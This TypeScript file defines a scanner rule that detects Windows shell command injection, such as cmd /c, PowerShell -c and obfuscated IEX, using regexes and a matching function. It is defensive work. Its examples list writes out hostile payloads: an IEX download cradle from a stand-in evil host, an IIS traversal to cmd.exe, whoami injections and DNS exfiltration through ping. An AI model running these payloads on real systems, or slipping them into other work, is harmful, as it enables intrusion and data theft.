import { usesOf } from '../../knowledge/commands.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { isAtValue } from '../../placement/value-place.ts';
import { wordList } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** The call operators of PowerShell with their parenthesis, and each of these characters behind it. */
export function callsWith(characters: string): readonly string[] {
  const calls = ['&(', '& (', '.(', '. ('];
  return calls.flatMap((call) => [...characters].map((next) => call + next));
}

/** `cmd /c dir`, `cmd.exe?/c+dir`, `powershell -c …`, `IEX(…)`, wherever they stand. */
export const windowsShell: ValueRule = {
  id: 'cmdi.windows-shell',
  score: confidence.strong,
  message: 'starts a Windows shell with a command',
  trigger: {
    literals: [
      [
        ...wordList(
          'cmd.exe cmd/ cmd" .exe?/ powershell pwsh iex( |iex invoke- comspec :~',
          "cmd'",
        ),
        ...['cmd ', 'iex (', 'iex $', '| iex', 'for /'],
        ...callsWith('\'" '),
      ],
    ],
  },
  judge,
  examples: [
    'cmd.exe /c dir',
    '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\',
    ...['cmd /c "ping -n 5 127.0.0.1"', 'x&cmd/c,calc', 'x | cmd/c whoami', '%COMSPEC% /c whoami'],
    'powershell -c "Get-Process"',
    'IEX (New-Object Net.WebClient).DownloadString("http://evil.example.com/a")',
    'powershell.exe -nop -w hidden -c ls',
    "x & for /f %i in ('whoami') do ping %i.example.com",
    ...['%PROGRAMFILES:~10,1%whoami', "&('I'+'EX') $x", '& ("{1}{0}" -f "X","IE")'],
  ],
  lookalikes: [
    'How do I open PowerShell or cmd on Windows 11?',
    ...['cmd /? shows the help', 'The /c switch of cmd is documented'],
    ...['PowerShell -Version 7 is out now', 'https://example.com/setup.exe?v=2'],
    ...['set today=%date:~0,4%', "x && ('a' + 'b')", 'for /usr/bin in (the) list'],
    ...["for /f %%i in ('dir /b') do echo %%i", 'Press Cmd/K, type theme'],
    ...['Cmd/C (copy), Cmd/V (paste)', 'Mac: cmd/c; paste: cmd/v'],
  ],
};

/** Each has the command in its last group, or needs none. */
const forms: readonly RegExp[] = [
  /(?:\bcmd(?:\.exe)?|%comspec%|\$env:comspec)['"]? {1,3}(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck] {0,3}["'^(]{0,3}([a-z]{2,20})/i,
  // Without a blank, as no path goes on.
  /\bcmd\.exe['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck](?:[ ,;=]{1,3}["'^(]{0,3}|["^(]{1,3})([a-z]{2,20})/i,
  // A key of the Mac has a blank behind it and the name of what it does: `Cmd/K, type …`.
  /(?<![\w./-])cmd['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck][,;="^(]["'^(]{0,3}([a-z]{2,20})/i,
  /(?:^|[&|;\n`(] {0,2})cmd['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck] {1,3}["^]{0,3}(?!(?:copy|paste|cut|find|open|print|save|select|undo)\b)([a-z]{2,20})/i,
  /\b[a-z0-9_-]{1,20}\.exe\?\/[a-z](?:\+|%20| )/i,
  /\b(?:powershell|pwsh)(?:\.exe)?['"]?(?: {1,3}-[a-z]{1,20}(?: {1,3}[a-z]{3,12})?){0,6} {1,3}-(?:c|command|file|f|encodedcommand|enc|ec)\b {1,3}["'&({]{0,3}([a-z$[.\\/]{2,30}(?:-[a-z]{2,20})?)/i,
  /\b(?:iex|invoke-expression) {0,3}[("'$]{1,3} {0,3}(?:new-object|iwr|irm|curl|invoke-w|\[system)/i,
  /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object net\.webclient)\b[^|\n]{0,200}\| {0,3}(?:iex|invoke-expression)\b/i,
];

/** The same in prose is a question about batch files. */
const valueForms: readonly RegExp[] = [
  /\bfor {1,3}\/[fdlr] {1,3}(?:"[^"\n]{0,60}" {1,3})?%[a-z] {1,3}in {0,3}\(['"`\w]/i,
  /%(?!date|time|cd)[a-z_()]{3,24}:~-?\d{1,3}(?:,-?\d{1,3})?%/i,
  /(?:^|[^&])[&.] {0,2}\( {0,2}(?:'[^'\n]{1,40}' {0,2}\+ {0,2}'|"(?:\{\d\}){2,8}" {0,2}-f)/,
  /(?:^|[^&\w])[&.] {0,2}\( {0,2}['"](?:iex|invoke-expression|gcm|cmd|powershell)['"] {0,2}\)/i,
];

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  for (const form of forms) {
    const match = form.exec(text);
    if (match === null) continue;
    const name = match[1];
    if (name !== undefined && !isCommand(name)) continue;
    return { start: match.index, end: match.index + match[0].length };
  }
  for (const form of valueForms) {
    const match = form.exec(text);
    if (match === null) continue;
    const score = isAtValue(subject, match.index) ? confidence.strong : confidence.hint;
    return { start: match.index, end: match.index + match[0].length, score };
  }
  return undefined;
}

function isCommand(name: string): boolean {
  return usesOf(name.toLowerCase()) !== 0 || marks.test(name) || name.toLowerCase() === 'calc';
}

/** A cmdlet, a variable, a type, a path. */
const marks = /[-$[.\\/]/;
